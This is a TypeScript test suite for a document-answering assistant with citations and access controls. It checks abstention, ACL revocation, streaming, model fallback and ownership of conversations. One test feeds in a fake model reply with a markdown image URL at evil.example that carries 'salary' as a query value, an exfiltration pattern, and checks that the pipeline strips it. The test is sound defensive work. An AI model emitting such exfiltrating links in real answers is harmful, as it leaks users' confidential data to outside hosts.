import { and, eq } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { resolvePrincipal } from "@groundwork/auth/principal";
import { seedDemoUsers } from "@groundwork/auth/seed";
import { auditEvents, groups, memberships, messages, users } from "@groundwork/db/schema";
import { availableTargets, createTestDatabase, type TestDatabase } from "@groundwork/db/testing";
import { createChatModelFromConfig } from "@groundwork/models/chat";
import { startFakeOpenAI, type FakeOpenAI, type FakeReplyInput } from "@groundwork/models/testing";
import { answerOnce } from "./answer-question";
import { NOTICES } from "./generate-answer";
import { getConversation, recordFeedback } from "./conversation-queries";
import { readAssistantEnv } from "./env";
import { decodeAnswerEvent } from "./events";
import { readSse } from "./read-sse";
import { answerEventStream } from "./sse";
import { seedCorpus, setDocumentAcl } from "./testing/seed-corpus";
import { answerQuestion } from "./answer-question";
import { searchChunks } from "@groundwork/retrieval";

const CORPUS = [
  {
    path: "policies/leave.md",
    title: "Leave policy",
    acl: ["group:everyone"],
    owner: "People Team",
    text:
      "Annual leave\n\nEmployees accrue 25 days of paid annual leave per calendar year. Unused leave carries over up to 5 days into the next year.\n\n" +
      "Parental leave is 16 weeks at full pay for every parent. Parental leave can start up to 4 weeks before the expected birth.",
  },
  {
    path: "policies/expenses.md",
    title: "Expense policy",
    acl: ["group:everyone"],
    owner: "Finance",
    text: "Meal expenses are reimbursed up to 40 EUR per day with an itemised receipt.\n\nTravel must be booked through the travel portal at least 14 days ahead.",
  },
  {
    path: "hr/salary-bands.md",
    title: "Salary bands",
    acl: ["group:hr"],
    owner: "People Team",
    text: "Salary bands are reviewed every April by the compensation committee.\n\nBand L3 ranges from 62,000 to 78,000 EUR per year.",
  },
  {
    path: "exec/board-notes.md",
    title: "Board notes",
    acl: ["group:exec"],
    text: "The board approved the acquisition of Inkwell Analytics for 12 million EUR in the third quarter.",
  },
];

const env = readAssistantEnv({});

async function principalOf(db: TestDatabase, username: string) {
  return resolvePrincipal({ db: db.db, username });
}

describe.each(await availableTargets())("answer pipeline on %s", (target) => {
  let db: TestDatabase;
  let docIds: Map<string, string>;
  let fake: FakeOpenAI;

  beforeAll(async () => {
    db = await createTestDatabase({ target });
    await seedDemoUsers({ db: db.db });
    docIds = (await seedCorpus({ db: db.db, docs: CORPUS })).documentIds;
    fake = await startFakeOpenAI();
  });
  afterAll(async () => {
    await fake?.close();
    await db?.dispose();
  });

  const llm = (timeoutMs = 5_000) =>
    createChatModelFromConfig({ baseURL: fake.baseURL, model: "fake-chat", temperature: 0, maxTokens: 300, timeoutMs });

  it("answers extractively offline: verbatim sentences, each cited, labeled, persisted and audited", async () => {
    const emma = await principalOf(db, "emma");
    const { final, done, events } = await answerOnce({
      db: db.db,
      principal: emma,
      question: "How many days of annual leave do employees get?",
      chatModel: null,
      env,
    });
    expect(final?.mode).toBe("extractive");
    // The "no model configured" hint is the admin console's, not every answer's.
    expect(final?.notice).toBeNull();
    expect(final?.content).toContain("Employees accrue 25 days of paid annual leave per calendar year. [1]");
    // Every sentence of the answer is copied from the cited source.
    for (const sentence of final!.content.split(/ \[\d+\] ?/).filter(Boolean))
      expect(CORPUS[0]!.text).toContain(sentence.trim());
    expect(final?.citations.map((c) => c.documentId)).toEqual([docIds.get("policies/leave.md")]);
    const c = final!.citations[0]!;
    expect(CORPUS[0]!.text.slice(c.charStart, c.charEnd)).toContain("Employees accrue 25 days");
    expect(c.href).toBe(`/documents/${c.documentId}?chunk=${c.chunkId}&start=${c.charStart}&end=${c.charEnd}`);
    expect(final?.flags).toEqual([]);
    expect(events.map((e) => e.type).filter((t) => t !== "status" && t !== "delta")).toEqual(["citations", "done"]);

    const conv = await getConversation({ db: db.db, principal: emma, conversationId: done!.conversationId });
    expect(conv.messages.map((m) => [m.role, m.mode])).toEqual([
      ["user", null],
      ["assistant", "extractive"],
    ]);
    const [stored] = await db.db.select().from(messages).where(eq(messages.id, done!.messageId));
    const trace = stored!.trace as {
      chunks: Array<{ chunkId: string; score: number }>;
      timings: Record<string, number>;
      models: { embedding: string | null };
    };
    expect(trace.chunks.length).toBeGreaterThan(0);
    expect(trace.chunks[0]!.chunkId).toBe(c.chunkId);
    expect(trace.timings.before_first_token_ms).toBeGreaterThan(0);
    expect(trace.models.embedding).toBe("hash-v1-384");
    const audit = await db.db
      .select()
      .from(auditEvents)
      .where(and(eq(auditEvents.action, "chat"), eq(auditEvents.target, done!.conversationId)));
    expect(audit).toHaveLength(1);
    expect(audit[0]!.detail).toMatchObject({ mode: "extractive", citedChunkIds: [c.chunkId] });
  });

  it("abstains plainly, lists the closest documents the user may open and names the owner", async () => {
    const emma = await principalOf(db, "emma");
    const { final } = await answerOnce({
      db: db.db,
      principal: emma,
      question: "Is there a sabbatical leave programme?",
      chatModel: null,
      env,
    });
    expect(final?.mode).toBe("abstain");
    expect(final?.citations).toEqual([]);
    expect(final?.content).toMatch(/^I couldn't find an answer/);
    expect(final?.closest.map((d) => d.path)).toContain("policies/leave.md");
    expect(final?.content).toContain("Leave policy is owned by People Team");
  });

  it("abstains on a question only a restricted document answers, without revealing it", async () => {
    const emma = await principalOf(db, "emma");
    const { final } = await answerOnce({
      db: db.db,
      principal: emma,
      question: "What price did the board approve for the Inkwell Analytics acquisition?",
      chatModel: llm(),
      env,
    });
    expect(final?.mode).toBe("abstain");
    expect(JSON.stringify(final)).not.toContain("12 million");
    expect(final?.closest.map((d) => d.documentId)).not.toContain(docIds.get("exec/board-notes.md"));
    // Ada (exec) may read it.
    const ada = await principalOf(db, "ada");
    const answered = await answerOnce({
      db: db.db,
      principal: ada,
      question: "What price did the board approve for the Inkwell Analytics acquisition?",
      chatModel: null,
      env,
    });
    expect(answered.final?.content).toContain("12 million EUR");
  });

  it("streams SSE: status, deltas, citations, done, each a well-formed frame", async () => {
    const emma = await principalOf(db, "emma");
    const stream = answerEventStream({
      events: answerQuestion({
        db: db.db,
        principal: emma,
        question: "How much is reimbursed for meals per day?",
        chatModel: llm(),
        env,
      }),
    });
    const raw = await new Response(stream).text();
    const frames = raw.split("\n\n").filter(Boolean);
    for (const f of frames) expect(f).toMatch(/^event: (status|delta|citations|done|error)\ndata: \{.*\}$/s);
    const parsed: Array<{ event: string; data: Record<string, unknown> }> = [];
    for await (const e of readSse(new Response(raw).body!)) {
      // Every frame fits the contract the browser decodes with.
      expect(decodeAnswerEvent({ frame: e })).not.toBeNull();
      parsed.push({ event: e.event, data: JSON.parse(e.data) as Record<string, unknown> });
    }
    const kinds = parsed.map((p) => p.event);
    expect(kinds[0]).toBe("status");
    expect(kinds.slice(-2)).toEqual(["citations", "done"]);
    expect(kinds.filter((k) => k === "delta").length).toBeGreaterThan(2);
    const text = parsed
      .filter((p) => p.event === "delta")
      .map((p) => p.data.text)
      .join("");
    const final = parsed.find((p) => p.event === "citations")!.data as {
      content: string;
      mode: string;
      citations: Array<{ documentId: string }>;
    };
    expect(text.trim()).toBe(final.content);
    expect(final.mode).toBe("llm");
    expect(final.citations.map((c) => c.documentId)).toContain(docIds.get("policies/expenses.md"));
  });

  it("removes citations to unknown sources and strips exfiltration attempts from model output", async () => {
    fake.configure({
      reply: () =>
        "Meals are reimbursed up to 40 EUR per day [1][9]. ![x](https://evil.example/c?d=salary) See [the portal](https://evil.example/p) for more [0].",
    });
    try {
      const emma = await principalOf(db, "emma");
      const { final, done } = await answerOnce({
        db: db.db,
        principal: emma,
        question: "How much is reimbursed for meals per day?",
        chatModel: llm(),
        env,
      });
      expect(final?.content).toBe("Meals are reimbursed up to 40 EUR per day [1]. See the portal for more.");
      expect(final?.citations.map((c) => c.n)).toEqual([1]);
      const [stored] = await db.db.select().from(messages).where(eq(messages.id, done!.messageId));
      expect((stored!.trace as { removed: unknown }).removed).toEqual({
        citations: [9, 0],
        images: 1,
        links: ["https://evil.example/p"],
      });
    } finally {
      fake.configure({ reply: undefined });
    }
  });

  it("flags sentences their cited source does not support", async () => {
    fake.configure({
      reply: () =>
        "Meals are reimbursed up to 40 EUR per day [1]. Employees also receive a free company car after one year [1].",
    });
    try {
      const emma = await principalOf(db, "emma");
      const { final } = await answerOnce({
        db: db.db,
        principal: emma,
        question: "How much is reimbursed for meals per day?",
        chatModel: llm(),
        env,
      });
      expect(final?.mode).toBe("llm");
      expect(final?.flags).toHaveLength(1);
      expect(final?.flags[0]).toMatchObject({ index: 1, reason: "unsupported", citations: [1] });
    } finally {
      fake.configure({ reply: undefined });
    }
  });

  it("retries a model that times out once, then falls back to the extractive answer with a notice", async () => {
    fake.calls.length = 0;
    fake.configure({ fail: "hang" });
    try {
      const emma = await principalOf(db, "emma");
      const { final, events, done } = await answerOnce({
        db: db.db,
        principal: emma,
        question: "How many days of annual leave do employees get?",
        chatModel: llm(300),
        env,
      });
      expect(fake.calls.filter((c) => c.endpoint === "chat")).toHaveLength(2);
      expect(final?.mode).toBe("fallback");
      expect(final?.notice).toBe(NOTICES.fallback);
      expect(final?.content).toContain("Employees accrue 25 days of paid annual leave per calendar year. [1]");
      expect(events.some((e) => e.type === "status" && e.stage === "fallback")).toBe(true);
      const [stored] = await db.db.select().from(messages).where(eq(messages.id, done!.messageId));
      expect(stored!.mode).toBe("fallback");
      expect((stored!.trace as { fallbackReason: string }).fallbackReason).toContain("no response within 300 ms");
    } finally {
      fake.configure({ fail: undefined });
    }
  });

  it("succeeds on the retry when only the first model call fails", async () => {
    fake.calls.length = 0;
    fake.configure({ fail: (call) => (call.seq === fake.calls[0]?.seq ? "error" : undefined) });
    try {
      const emma = await principalOf(db, "emma");
      const { final } = await answerOnce({
        db: db.db,
        principal: emma,
        question: "How many days of annual leave do employees get?",
        chatModel: llm(),
        env,
      });
      expect(final?.mode).toBe("llm");
      expect(fake.calls.map((c) => c.outcome)).toEqual([500, 200]);
    } finally {
      fake.configure({ fail: undefined });
    }
  });

  it("tells the client to discard streamed text when the model dies mid-answer", async () => {
    fake.configure({
      fail: "drop",
      reply: () =>
        "Employees accrue 25 days of paid annual leave per calendar year [1]. Unused leave carries over up to 5 days [1].",
    });
    try {
      const emma = await principalOf(db, "emma");
      const { final, events } = await answerOnce({
        db: db.db,
        principal: emma,
        question: "How many days of annual leave do employees get?",
        chatModel: llm(),
        env,
      });
      const fallback = events.find((e) => e.type === "status" && e.stage === "fallback");
      expect(fallback).toMatchObject({ reset: true });
      expect(final?.mode).toBe("fallback");
    } finally {
      fake.configure({ fail: undefined, reply: undefined });
    }
  });

  it("condenses a follow-up from the previous turn (rules offline, the model when configured)", async () => {
    const emma = await principalOf(db, "emma");
    const first = await answerOnce({
      db: db.db,
      principal: emma,
      question: "How are meal expenses reimbursed?",
      chatModel: null,
      env,
    });
    const followUp = await answerOnce({
      db: db.db,
      principal: emma,
      question: "What about for travel?",
      conversationId: first.done!.conversationId,
      chatModel: null,
      env,
    });
    const [stored] = await db.db.select().from(messages).where(eq(messages.id, followUp.done!.messageId));
    const trace = stored!.trace as { standaloneQuery: string; condensedBy: string };
    expect(trace.condensedBy).toBe("rules");
    expect(trace.standaloneQuery).toMatch(/travel.*meal/i);
    expect(followUp.final?.citations.map((c) => c.path)).toContain("policies/expenses.md");

    // "How long is it?" means nothing alone; after a question about parental leave it is answerable.
    const alone = await answerOnce({ db: db.db, principal: emma, question: "How long is it?", chatModel: null, env });
    expect(alone.final?.mode).toBe("abstain");
    const parental = await answerOnce({
      db: db.db,
      principal: emma,
      question: "Tell me about parental leave",
      chatModel: null,
      env,
    });
    const howLong = await answerOnce({
      db: db.db,
      principal: emma,
      question: "How long is it?",
      conversationId: parental.done!.conversationId,
      chatModel: null,
      env,
    });
    expect(howLong.final?.mode).toBe("extractive");
    expect(howLong.final?.content).toContain("16 weeks");

    // With a model, the condense prompt carries earlier questions (never answers) and its reply becomes the query.
    fake.calls.length = 0;
    fake.configure({
      reply: ({ messages: m }: FakeReplyInput) =>
        m[0]!.content.includes("standalone search query")
          ? "How long is parental leave?"
          : "Parental leave is 16 weeks at full pay for every parent [1].",
    });
    try {
      const viaModel = await answerOnce({
        db: db.db,
        principal: emma,
        question: "How long is it?",
        conversationId: parental.done!.conversationId,
        chatModel: llm(),
        env,
      });
      const condenseCall = fake.calls.find((c) => JSON.stringify(c.body).includes("standalone search query"))!;
      expect(JSON.stringify(condenseCall.body)).toContain("Tell me about parental leave");
      expect(JSON.stringify(condenseCall.body)).not.toContain("Parental leave is 16 weeks");
      const [s2] = await db.db.select().from(messages).where(eq(messages.id, viaModel.done!.messageId));
      expect((s2!.trace as { standaloneQuery: string; condensedBy: string }).standaloneQuery).toBe(
        "How long is parental leave?",
      );
      expect(viaModel.final?.mode).toBe("llm");
    } finally {
      fake.configure({ reply: undefined });
    }
  });

  it("never cites a document again once the user lost access to it between turns", async () => {
    let harper = await principalOf(db, "harper");
    const first = await answerOnce({
      db: db.db,
      principal: harper,
      question: "When are salary bands reviewed?",
      chatModel: null,
      env,
    });
    expect(first.final?.citations.map((c) => c.path)).toEqual(["hr/salary-bands.md"]);

    // Harper leaves the HR group; the next request resolves her principal afresh, as the session does.
    const [hr] = await db.db.select().from(groups).where(eq(groups.name, "hr"));
    await db.db.delete(memberships).where(and(eq(memberships.userId, harper.userId), eq(memberships.groupId, hr!.id)));
    harper = await principalOf(db, "harper");
    for (const chatModel of [null, llm()]) {
      const next = await answerOnce({
        db: db.db,
        principal: harper,
        question: "And what is the range for band L3?",
        conversationId: first.done!.conversationId,
        chatModel,
        env,
      });
      expect(next.final?.citations.map((c) => c.path)).not.toContain("hr/salary-bands.md");
      expect(JSON.stringify(next.final)).not.toContain("62,000");
      expect(next.final?.mode).toBe("abstain");
    }
    // History keeps her question, but the answer quoted a document she can no longer read: withheld, citation gone.
    const conv = await getConversation({ db: db.db, principal: harper, conversationId: first.done!.conversationId });
    expect(conv.messages[1]).toMatchObject({ withheld: true, citations: [], revokedCitations: 1 });
    expect(JSON.stringify(conv.messages[1])).not.toContain("62,000");

    // The same holds when the document's ACL changes instead of the user's groups.
    const lena = await principalOf(db, "lena");
    const id = docIds.get("policies/expenses.md")!;
    const before = await answerOnce({
      db: db.db,
      principal: lena,
      question: "How much is reimbursed for meals per day?",
      chatModel: null,
      env,
    });
    expect(before.final?.citations.map((c) => c.documentId)).toContain(id);
    await setDocumentAcl({ db: db.db, documentId: id, acl: ["group:exec"] });
    try {
      const after = await answerOnce({
        db: db.db,
        principal: lena,
        question: "How much is reimbursed for meals per day?",
        conversationId: before.done!.conversationId,
        chatModel: null,
        env,
      });
      expect(after.final?.citations.map((c) => c.documentId) ?? []).not.toContain(id);
    } finally {
      await setDocumentAcl({ db: db.db, documentId: id, acl: ["group:everyone"] });
    }
  });

  it("treats the model saying the sources don't answer as an abstention", async () => {
    fake.configure({ reply: () => "I couldn't find this in the documents you can access." });
    try {
      const emma = await principalOf(db, "emma");
      const { final } = await answerOnce({
        db: db.db,
        principal: emma,
        question: "How many days of annual leave do employees get?",
        chatModel: llm(),
        env,
      });
      expect(final?.mode).toBe("abstain");
      expect(final?.closest.length).toBeGreaterThan(0);
    } finally {
      fake.configure({ reply: undefined });
    }
  });

  it("keeps conversations and feedback to their owner", async () => {
    const emma = await principalOf(db, "emma");
    const sam = await principalOf(db, "sam");
    const { done } = await answerOnce({
      db: db.db,
      principal: emma,
      question: "How many days of annual leave do employees get?",
      chatModel: null,
      env,
    });
    await expect(
      getConversation({ db: db.db, principal: sam, conversationId: done!.conversationId }),
    ).rejects.toMatchObject({ code: "not_found" });
    const stolen = await answerOnce({
      db: db.db,
      principal: sam,
      question: "Anything?",
      conversationId: done!.conversationId,
      chatModel: null,
      env,
    });
    expect(stolen.error?.code).toBe("not_found");
    await expect(
      recordFeedback({ db: db.db, userId: sam.userId, messageId: done!.messageId, rating: 1 }),
    ).rejects.toMatchObject({ code: "not_found" });
    await expect(
      recordFeedback({ db: db.db, userId: emma.userId, messageId: done!.userMessageId, rating: 1 }),
    ).rejects.toMatchObject({ code: "bad_request" });
    await recordFeedback({
      db: db.db,
      userId: emma.userId,
      messageId: done!.messageId,
      rating: -1,
      comment: "too short",
    });
    await recordFeedback({ db: db.db, userId: emma.userId, messageId: done!.messageId, rating: 1 });
    const conv = await getConversation({ db: db.db, principal: emma, conversationId: done!.conversationId });
    expect(conv.messages[1]!.feedback).toEqual({ rating: 1, comment: null });
    const [u] = await db.db.select().from(users).where(eq(users.username, "emma"));
    expect(u!.id).toBe(emma.userId);
  });

  it("weighs word rarity over the chunks the caller may read only", async () => {
    const emma = await principalOf(db, "emma");
    // An hr reader built here: other tests move harper between groups.
    const harper = { ...emma, principals: [...emma.principals, "group:hr"] };
    // "compensation" occurs only in the salary bands, which only hr may read.
    const words = ["leave", "parental", "jupiter", "compensation", "the"];
    const forEmma = await searchChunks({
      db: db.db,
      principal: emma,
      query: "parental leave",
      reranker: null,
      options: { termStats: true, wordStats: words },
    });
    const forHarper = await searchChunks({
      db: db.db,
      principal: harper,
      query: "parental leave",
      reranker: null,
      options: { termStats: true, wordStats: words },
    });
    expect(forEmma.chunkCount).toBeGreaterThan(0);
    expect(forHarper.chunkCount).toBeGreaterThan(forEmma.chunkCount);
    expect(forEmma.wordStats.get("leave")).toBeGreaterThanOrEqual(2);
    expect(forEmma.wordStats.get("parental")).toBeGreaterThanOrEqual(1);
    // A word only hr documents hold is, for emma, exactly a word no document holds.
    expect(forHarper.wordStats.get("compensation")).toBeGreaterThan(0);
    expect(forEmma.wordStats.get("compensation")).toBe(0);
    expect(forEmma.wordStats.get("jupiter")).toBe(0);
    // A Postgres stop word has no lexeme: it never decides a match.
    expect(forEmma.wordStats.get("the")).toBeNull();
  });

  it("rejects empty and oversized questions with a clear error", async () => {
    const emma = await principalOf(db, "emma");
    expect(
      (await answerOnce({ db: db.db, principal: emma, question: "   ", chatModel: null, env })).error,
    ).toMatchObject({ code: "bad_request" });
    expect(
      (await answerOnce({ db: db.db, principal: emma, question: "x".repeat(5000), chatModel: null, env })).error,
    ).toMatchObject({ code: "bad_request" });
  });
});
